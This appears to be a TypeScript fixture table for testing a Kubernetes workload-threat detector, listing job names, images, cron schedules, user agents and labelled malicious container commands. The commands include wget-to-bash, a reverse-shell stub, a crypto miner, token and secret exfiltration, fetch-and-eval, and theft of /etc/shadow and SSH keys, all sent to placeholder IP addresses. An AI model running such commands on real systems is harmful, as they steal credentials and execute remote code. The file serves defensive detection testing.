import type { LoudTables } from './loud-tables.ts';

/** Was the final set once; since its figures are known, the detector is tried on it while it is made. Other values, names and combinations than the development's. */
export const loud: LoudTables = {
  prefix: 'V-L',
  count: 54,
  names: [
    'kubelet-patcher',
    'volume-trim',
    'mesh-doctor',
    'audit-shipper',
    'token-renewer',
    'quota-sync',
    'edge-ping',
    'backup-verify',
    'hotfix-2',
    'session-keeper',
    'ntp-align',
    'sbom-cache',
  ],
  images: [
    'docker.io/library/debian:12-slim',
    'docker.io/curlimages/curl:8.9.1',
    'ghcr.io/devops-kit/agent:0.3',
    'quay.io/sysutils/netshoot:latest',
    'docker.io/library/perl:5.40',
    'registry.brackem.example/base/debian:12',
    'docker.io/node-exporter/exporter:1',
  ],
  payloads: [
    [
      'download into a shell',
      ['bash', '-c', 'wget -qO- https://files.example.org/setup | bash -s -- --quiet'],
    ],
    ['connected shell', ['perl', '-e', 'use Socket;$i="198.51.100.31";$p=8443;']],
    ['encoded command', ['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))']],
    ['waits for its master', ['tail', '-f', '/dev/null']],
    ['miner', ['/bin/sys', '--algo=rx/0', '--url=203.0.113.91:14444', '--threads=8']],
    [
      'credentials sent away',
      ['sh', '-c', 'env | grep -i -e token -e secret | wget -q --post-file=- http://203.0.113.12/e'],
    ],
    ['code from the network', ['node', '-e', 'fetch("http://203.0.113.66/a").then(r=>r.text()).then(eval)']],
    ['unknown program', ['/dev/shm/.d', '-k', '198.51.100.200:993']],
    [
      'node files',
      ['sh', '-c', 'cat /host/etc/shadow /host/root/.ssh/id_rsa | gzip | curl -s -T - http://198.51.100.8/n'],
    ],
    [
      'fetched and made executable',
      ['sh', '-c', 'curl -so /tmp/u http://198.51.100.44/u && chmod +x /tmp/u && /tmp/u'],
    ],
  ],
  schedules: ['*/3 * * * *', '@hourly', '4-59/7 * * * *', '43 4 * * *', '15 2 29 2 *', '0 0 1 1 *'],
  agents: [
    'kubectl/v1.28.9 (windows/amd64) kubernetes/587f5fe',
    'Wget/1.21.4',
    'okhttp/4.12.0',
    'kubectl/v1.32.3 (darwin/amd64) kubernetes/32cc146',
    'kubernetes-client/javascript',
  ],
  strides: { kind: 5, actor: 5, power: 2, hiding: 4 },
};
